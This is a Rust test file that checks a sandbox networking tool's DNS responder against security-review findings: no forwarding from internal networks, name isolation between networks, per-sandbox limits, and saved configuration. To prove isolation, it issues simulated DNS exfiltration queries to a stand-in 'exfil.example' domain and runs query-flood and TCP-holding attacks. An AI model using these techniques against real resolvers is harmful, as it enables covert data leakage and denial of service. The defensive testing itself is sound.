//! The DNS findings of the December 2026 security review: internal networks
//! never forward (1), a name on one network changes nothing on another (9),
//! limits per sandbox (10), and a configuration that is saved and shown
//! rather than inherited from whichever command started the responder.
//!
//! "Outside" is a fake upstream resolver in a namespace of the test host,
//! behind a veth (10.253.0.0/30); it logs every query it gets.

use bpfnet_tests::{jget, jstr, secs, Bg, TestHost, PYTHON};
use serde_json::json;

const HELPER: &str = include_str!("security_dns.py");
const UPSTREAM: &str = "10.253.0.2:53";
/// What the fake upstream answers for every A query.
const OUTSIDE_ANSWER: &str = "10.9.8.7";
/// The responder's shares (userspace/src/dns/limits.rs).
const FORWARDS_PER_SANDBOX: usize = 32;
const TCP_PER_SANDBOX: usize = 8;
/// The responder's wait for one upstream (userspace/src/dns/upstream.rs).
const PER_UPSTREAM_SECS: f64 = 1.5;

/// The query encoding security_dns.py imports.
const DNS_PY: &str = include_str!("dns.py");

fn helper(h: &TestHost) -> String {
    std::fs::write(h.dir.join("dns.py"), DNS_PY).expect("write dns.py");
    let p = h.dir.join("security_dns.py");
    std::fs::write(&p, HELPER).expect("write security_dns.py");
    p.to_string_lossy().into_owned()
}

/// `bpfnet ARGS` with `BPFNET_DNS_UPSTREAM=value`.
fn bpfnet_with_upstream(h: &TestHost, value: &str, args: &[&str]) -> bpfnet_tests::Output {
    let var = format!("BPFNET_DNS_UPSTREAM={value}");
    let mut v = vec!["env", var.as_str(), h.bin_path()];
    v.extend_from_slice(args);
    h.run(&v)
}

/// `dig` in a sandbox, one try: the whole output.
fn dig(h: &TestHost, sb: &str, args: &[&str]) -> String {
    let mut v = vec!["dig", "+tries=1", "+timeout=3"];
    v.extend_from_slice(args);
    h.exec_in(sb, &v).stdout
}

fn status(dig_out: &str) -> &str {
    dig_out
        .split("status: ")
        .nth(1)
        .and_then(|s| s.split(',').next())
        .unwrap_or_else(|| panic!("no status in dig output:\n{dig_out}"))
}

/// The header flags of a dig answer (`qr rd ra`, `qr aa rd ra`).
fn flags(dig_out: &str) -> &str {
    dig_out
        .split(";; flags: ")
        .nth(1)
        .and_then(|s| s.split(';').next())
        .unwrap_or_else(|| panic!("no flags in dig output:\n{dig_out}"))
}

/// The A addresses of a dig answer.
fn a_records(dig_out: &str) -> Vec<String> {
    dig_out
        .lines()
        .filter(|l| !l.starts_with(';'))
        .filter_map(|l| {
            let f: Vec<&str> = l.split_whitespace().collect();
            (f.len() == 5 && f[3] == "A").then(|| f[4].to_string())
        })
        .collect()
}

/// Lines `query NAME TYPE PROTO` the fake upstream logged.
fn queries(up: &Bg) -> Vec<String> {
    up.lines()
        .into_iter()
        .filter(|l| l.starts_with("query "))
        .collect()
}

#[test]
fn internal_only_sandboxes_never_reach_the_upstream_over_udp_or_tcp_but_resolve_their_peers() {
    let h = TestHost::new("sdns-internal");
    let py = helper(&h);
    let mut up = h.fake_upstream(&py, "53", OUTSIDE_ANSWER);
    let o = bpfnet_with_upstream(&h, UPSTREAM, &["network", "create", "--internal", "int"]);
    assert!(o.success(), "{o}");
    h.bpfnet_ok(&["network", "create", "ext"]);
    h.create("i1", &["int"]);
    h.create("i2", &["int"]);
    h.create("e1", &["ext"]);
    h.create("both", &["int", "ext"]);
    let int_gw = format!("@{}", h.gateway_of("int"));
    let (int_gw, i2) = (int_gw.as_str(), h.ip_on("i2", "int"));

    // The attack: data out as query names, over UDP and TCP, any type, also
    // through plain resolv.conf use and reverse lookups outside bpfnet.
    for args in [
        vec!["leak-udp-a.exfil.example", "A"],
        vec!["+tcp", "leak-tcp-a.exfil.example", "A"],
        vec!["leak-udp-txt.exfil.example", "TXT"],
        vec!["+tcp", "leak-tcp-txt.exfil.example", "TXT"],
        vec![int_gw, "leak-explicit-server.exfil.example", "A"],
        vec!["-x", "10.253.0.2"],
        vec!["+tcp", "-x", "192.0.2.77"],
        vec!["-x", "172.30.99.2"],
    ] {
        let out = dig(&h, "i1", &args);
        assert_eq!(status(&out), "NXDOMAIN", "{args:?}:\n{out}");
        assert!(!flags(&out).contains("aa"), "not authoritative: {out}");
        assert!(a_records(&out).is_empty(), "{out}");
    }
    let o = h.exec_in(
        "i1",
        &[
            "env",
            "RES_OPTIONS=timeout:2 attempts:1",
            "getent",
            "hosts",
            "leak-getent.exfil.example",
        ],
    );
    assert!(!o.success(), "getent must find nothing:\n{o}");

    // What must keep working: the internal sandbox resolves its peers
    // (UDP, TCP, PTR); other sandboxes are forwarded by the same responder.
    assert_eq!(a_records(&dig(&h, "i1", &["i2"])), [i2.as_str()]);
    assert_eq!(a_records(&dig(&h, "i1", &["+tcp", "i2"])), [i2.as_str()]);
    let ptr = dig(&h, "i1", &["+short", "-x", &i2]);
    assert_eq!(ptr.trim(), "i2.", "{ptr}");
    for (sb, args) in [
        ("e1", vec!["control-udp.example"]),
        ("e1", vec!["+tcp", "control-tcp.example"]),
        // On int and on a network that reaches out: forwarded (Docker's rule),
        // even through int's gateway.
        ("both", vec![int_gw, "control-both.example"]),
    ] {
        let out = dig(&h, sb, &args);
        assert_eq!(a_records(&out), [OUTSIDE_ANSWER], "{sb} {args:?}:\n{out}");
    }

    let seen = queries(&up);
    up.stop();
    for want in [
        "query control-udp.example 1 udp",
        "query control-tcp.example 1 tcp",
        "query control-both.example 1 udp",
    ] {
        assert!(seen.iter().any(|l| l == want), "{want} missing: {seen:?}");
    }
    let leaked: Vec<&String> = seen.iter().filter(|l| !l.contains("control")).collect();
    assert!(
        leaked.is_empty(),
        "the upstream must see nothing from the internal sandbox: {leaked:?}"
    );
}

#[test]
fn a_name_on_another_network_resolves_for_others_exactly_like_a_name_nobody_has() {
    let h = TestHost::new("sdns-cross");
    let py = helper(&h);
    let mut up = h.fake_upstream(&py, "53", OUTSIDE_ANSWER);
    let o = bpfnet_with_upstream(&h, UPSTREAM, &["network", "create", "net1"]);
    assert!(o.success(), "{o}");
    h.bpfnet_ok(&["network", "create", "net2"]);
    h.create("a", &["net1"]);
    let names = ["secretdb", "www.example.org", "nobody-has-this"];
    // status, flags and answer: everything a requester can compare.
    let view = |name: &str| {
        let out = dig(&h, "a", &[name]);
        (
            status(&out).to_string(),
            flags(&out).to_string(),
            a_records(&out),
        )
    };
    let before: Vec<_> = names.iter().map(|n| view(n)).collect();

    // Another tenant takes these names on net2 (a sandbox name, an alias
    // that is a public name).
    h.create("secretdb", &["net2"]);
    h.bpfnet_ok(&[
        "create",
        "--name",
        "x1",
        "--network",
        "net2",
        "--network-alias",
        "www.example.org",
    ]);
    h.create("peer2", &["net2"]);
    let after: Vec<_> = names.iter().map(|n| view(n)).collect();
    assert_eq!(before, after, "net2's names changed what net1 sees");
    for (name, v) in names.iter().zip(&after) {
        assert_eq!(v.0, "NOERROR", "{name}: {v:?}");
        assert!(!v.1.contains("aa"), "{name}: {v:?}");
        assert_eq!(v.2, [OUTSIDE_ANSWER], "{name}: forwarded like any name");
    }
    // Reverse: secretdb's address looks like one outside bpfnet.
    let sdb = h.ip_on("secretdb", "net2");
    let rev = dig(&h, "a", &["-x", &sdb]);
    let outside = dig(&h, "a", &["-x", "192.0.2.77"]);
    assert_eq!(
        (status(&rev), flags(&rev)),
        (status(&outside), flags(&outside)),
        "{rev}\n{outside}"
    );
    assert!(!rev.contains("secretdb"), "{rev}");

    // On net2 the names are net2's, answered by us.
    let own = dig(&h, "peer2", &["secretdb"]);
    assert_eq!(a_records(&own), [sdb.as_str()], "{own}");
    assert!(flags(&own).contains("aa"), "{own}");
    assert_eq!(
        a_records(&dig(&h, "peer2", &["www.example.org"])),
        [h.ip_on("x1", "net2")]
    );
    let seen = queries(&up);
    up.stop();
    assert!(
        seen.iter().any(|l| l == "query secretdb 1 udp"),
        "forwarded as Docker does: {seen:?}"
    );
}

#[test]
fn a_sandbox_flooding_forwards_gets_servfail_while_other_sandboxes_are_still_forwarded() {
    let h = TestHost::new("sdns-flood");
    let py = helper(&h);
    let mut up = h.fake_upstream(&py, "53", OUTSIDE_ANSWER);
    let o = bpfnet_with_upstream(&h, UPSTREAM, &["network", "create", "net1"]);
    assert!(o.success(), "{o}");
    h.bpfnet_ok(&["network", "create", "net2"]);
    h.create("flooder", &["net1"]);
    h.create("neighbour", &["net1"]);
    h.create("victim", &["net2"]);
    let gw = h.gateway_of("net1");
    // Unanswered names, 2000 a second: each holds a forward for the whole
    // upstream timeout, far more than one sandbox's share.
    let flood_secs = 8.0;
    let mut flood = h.spawn_in(
        "flooder",
        &[PYTHON, &py, "flood", &gw, &flood_secs.to_string()],
    );
    flood.wait_line("started", secs(10));
    // The first SERVFAIL: the limit that applies to the flooder is full,
    // and stays so (it asks faster than forwards time out) until it ends.
    flood.wait_line("refused", secs(10));
    up.wait_contains("query slow", FORWARDS_PER_SANDBOX, secs(10));
    for (sb, args) in [
        ("victim", vec!["victim-udp.example"]),
        ("victim", vec!["+tcp", "victim-tcp.example"]),
        ("neighbour", vec!["neighbour-udp.example"]),
    ] {
        let out = dig(&h, sb, &args);
        assert_eq!(a_records(&out), [OUTSIDE_ANSWER], "{sb} starved:\n{out}");
    }
    assert!(
        flood.lines().iter().all(|l| !l.starts_with("result")),
        "the flood ended before the victims asked: the test proved nothing"
    );
    let line = flood.wait_line("result", secs(30));
    let f: Vec<&str> = line.split_whitespace().collect();
    let (sent, servfail, elapsed): (usize, usize, f64) = (
        f[2].parse().unwrap(),
        f[4].parse().unwrap(),
        f[6].parse().unwrap(),
    );
    let slow = queries(&up)
        .iter()
        .filter(|l| l.starts_with("query slow"))
        .count();
    up.stop();
    eprintln!("flooder: {line}; forwarded {slow}");
    // Each forward holds its slot for the upstream timeout: the flooder
    // cannot have had more than its share per timeout.
    let bound = FORWARDS_PER_SANDBOX * ((elapsed / PER_UPSTREAM_SECS).ceil() as usize + 2);
    assert!(
        slow <= bound,
        "the flooder got {slow} forwards in {elapsed} s, its share allows {bound}: {line}"
    );
    assert!(
        servfail >= sent / 2,
        "the flood must be refused beyond its share at once: {line}"
    );
}

#[test]
fn a_sandbox_holding_tcp_connections_cannot_lock_other_sandboxes_out() {
    let h = TestHost::new("sdns-tcp");
    let py = helper(&h);
    let mut up = h.fake_upstream(&py, "53", OUTSIDE_ANSWER);
    let o = bpfnet_with_upstream(&h, UPSTREAM, &["network", "create", "net1"]);
    assert!(o.success(), "{o}");
    h.bpfnet_ok(&["network", "create", "net2"]);
    h.create("holder", &["net1"]);
    h.create("neighbour", &["net1"]);
    h.create("victim", &["net2"]);
    h.create("peer", &["net2"]);
    let gw = h.gateway_of("net1");
    let mut hold = h.spawn_in("holder", &[PYTHON, &py, "tcphold", &gw, "300", "30"]);
    let line = hold.wait_line("holding", secs(60));
    let f: Vec<&str> = line.split_whitespace().collect();
    assert_eq!(
        f[2].parse::<usize>().unwrap(),
        TCP_PER_SANDBOX,
        "the responder keeps exactly one sandbox's share open: {line}"
    );
    for (sb, name, want) in [
        ("victim", "victim-tcp.example", OUTSIDE_ANSWER.to_string()),
        ("victim", "peer", h.ip_on("peer", "net2")),
        (
            "neighbour",
            "neighbour-tcp.example",
            OUTSIDE_ANSWER.to_string(),
        ),
    ] {
        let out = dig(&h, sb, &["+tcp", name]);
        assert_eq!(a_records(&out), [want], "{sb} locked out:\n{out}");
    }
    hold.stop();
    up.stop();
}

#[test]
fn the_upstream_set_by_one_command_is_saved_shown_and_not_inherited_from_the_environment() {
    let h = TestHost::new("sdns-config");
    let py = helper(&h);
    let mut up = h.fake_upstream(&py, "53", OUTSIDE_ANSWER);
    let o = bpfnet_with_upstream(&h, UPSTREAM, &["network", "create", "net1"]);
    assert!(o.success(), "{o}");
    h.bpfnet_ok(&["network", "create", "--internal", "int"]);
    // Started by a command without the variable: the saved value holds.
    h.create("a", &["net1"]);
    h.create("i", &["int"]);
    let config = h.root.join("dns/config.json");
    let saved: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&config).expect("config.json")).unwrap();
    assert_eq!(saved, json!({"upstreams": [UPSTREAM], "port": 53}));
    assert_eq!(
        a_records(&dig(&h, "a", &["saved.example"])),
        [OUTSIDE_ANSWER]
    );

    // The daemons have an empty environment but for their state directory.
    for which in ["supervisor", "worker"] {
        let pid = std::fs::read_to_string(h.root.join(format!("dns/{which}.pid"))).unwrap();
        let env = std::fs::read(format!("/proc/{}/environ", pid.trim())).unwrap();
        let vars: Vec<String> = env
            .split(|&b| b == 0)
            .filter(|v| !v.is_empty())
            .map(|v| String::from_utf8_lossy(v).into_owned())
            .collect();
        assert_eq!(
            vars,
            [format!("BPFNET_ROOT={}", h.root.display())],
            "{which}"
        );
    }

    // Shown by network inspect.
    let net1 = h.network_inspect("net1");
    let dns = jget(&net1, "/DNS");
    assert_eq!(dns["Server"], json!(format!("{}:53", h.gateway_of("net1"))));
    assert_eq!(dns["Upstreams"], json!([UPSTREAM]));
    assert_eq!(dns["ForwardsUnknownNames"], json!(true));
    assert!(
        jstr(&net1, "/DNS/UpstreamsFrom").starts_with("BPFNET_DNS_UPSTREAM, saved in "),
        "{dns}"
    );
    let int = h.network_inspect("int");
    assert_eq!(int["DNS"]["ForwardsUnknownNames"], json!(false));
    assert_eq!(int["DNS"]["Upstreams"], json!([]));
    assert!(h.network_inspect("bridge").get("DNS").is_none());

    // A bad value: one warning line, nothing changes.
    let before = std::fs::read_to_string(&config).unwrap();
    let o = bpfnet_with_upstream(&h, "nonsense", &["ps"]);
    assert!(o.success(), "{o}");
    assert_eq!(
        o.stderr.trim(),
        "warning: name resolution: BPFNET_DNS_UPSTREAM=\"nonsense\": \"nonsense\" is not \
         IP[:PORT] (write IP[:PORT][,IP[:PORT]...], or set it empty for the host's resolvers); \
         the DNS responder keeps its configuration (see `bpfnet network inspect`)"
    );
    assert_eq!(std::fs::read_to_string(&config).unwrap(), before);

    // A later command with another value moves the running responder.
    let worker = std::fs::read_to_string(h.root.join("dns/worker.pid")).unwrap();
    let mut other = h.fake_upstream(&py, "5353", "10.9.8.8");
    let o = bpfnet_with_upstream(&h, "10.253.0.2:5353", &["ps"]);
    assert!(o.success() && o.stderr.is_empty(), "{o}");
    assert_eq!(a_records(&dig(&h, "a", &["moved.example"])), ["10.9.8.8"]);
    assert_eq!(
        h.network_inspect("net1")["DNS"]["Upstreams"],
        json!(["10.253.0.2:5353"])
    );
    assert_eq!(
        std::fs::read_to_string(h.root.join("dns/worker.pid")).unwrap(),
        worker,
        "reloaded, not restarted"
    );
    // Empty: back to the host's resolv.conf.
    let o = bpfnet_with_upstream(&h, "", &["ps"]);
    assert!(o.success(), "{o}");
    assert_eq!(
        h.network_inspect("net1")["DNS"]["UpstreamsFrom"],
        json!("/etc/resolv.conf (read at each reload)")
    );
    let seen_other = queries(&other);
    other.stop();
    let seen = queries(&up);
    up.stop();
    assert_eq!(seen_other, ["query moved.example 1 udp"]);
    assert_eq!(seen, ["query saved.example 1 udp"]);
}

#[test]
fn a_responder_started_by_another_bpfnet_binary_is_replaced_by_the_one_in_use() {
    let h = TestHost::new("sdns-upgrade");
    let copy = h.dir.join("bpfnet-other");
    std::fs::copy(h.bin_path(), &copy).expect("copy the binary");
    let copy = copy.to_string_lossy().into_owned();
    h.ok(&[&copy, "network", "create", "net1"]);
    h.ok(&[&copy, "create", "--name", "a", "--network", "net1"]);
    let exe = |which: &str| {
        let pid = std::fs::read_to_string(h.root.join(format!("dns/{which}.pid"))).unwrap();
        std::fs::read_link(format!("/proc/{}/exe", pid.trim()))
            .unwrap()
            .to_string_lossy()
            .into_owned()
    };
    assert_eq!(exe("supervisor"), copy);
    h.create("b", &["net1"]);
    let ours = std::fs::canonicalize(h.bin_path()).unwrap();
    assert_eq!(exe("supervisor"), ours.to_string_lossy());
    assert_eq!(exe("worker"), ours.to_string_lossy());
    assert_eq!(
        a_records(&dig(&h, "a", &["b"])),
        [h.ip_on("b", "net1").as_str()]
    );
}

#[test]
fn bpfnet_dns_port_is_saved_and_moves_the_running_responder() {
    let h = TestHost::new("sdns-port");
    h.bpfnet_ok(&["network", "create", "net1"]);
    h.create("a", &["net1"]);
    h.create("b", &["net1"]);
    let (gw, b) = (h.gateway_of("net1"), h.ip_on("b", "net1"));
    let server = format!("@{gw}");
    assert_eq!(a_records(&dig(&h, "a", &[&server, "b"])), [b.as_str()]);
    let worker = std::fs::read_to_string(h.root.join("dns/worker.pid")).unwrap();
    let o = h.run(&["env", "BPFNET_DNS_PORT=5300", h.bin_path(), "ps"]);
    assert!(o.success() && o.stderr.is_empty(), "{o}");
    assert_eq!(
        a_records(&dig(&h, "a", &[&server, "-p", "5300", "b"])),
        [b.as_str()]
    );
    assert!(
        a_records(&dig(&h, "a", &[&server, "-p", "53", "+timeout=1", "b"])).is_empty(),
        "port 53 must be closed now"
    );
    assert_eq!(
        h.network_inspect("net1")["DNS"]["Server"],
        json!(format!("{gw}:5300"))
    );
    // Later commands without the variable keep it.
    h.create("c", &["net1"]);
    assert_eq!(
        a_records(&dig(&h, "a", &[&server, "-p", "5300", "c"])),
        [h.ip_on("c", "net1").as_str()]
    );
    assert_eq!(
        std::fs::read_to_string(h.root.join("dns/worker.pid")).unwrap(),
        worker,
        "rebound, not restarted"
    );
    // A bad port: one warning line, nothing changes.
    let o = h.run(&["env", "BPFNET_DNS_PORT=99999", h.bin_path(), "ps"]);
    assert!(o.success(), "{o}");
    assert_eq!(
        o.stderr.trim(),
        "warning: name resolution: BPFNET_DNS_PORT=\"99999\" is not a port (1-65535); \
         the DNS responder keeps its configuration (see `bpfnet network inspect`)"
    );
    assert_eq!(
        h.network_inspect("net1")["DNS"]["Server"],
        json!(format!("{gw}:5300"))
    );
}
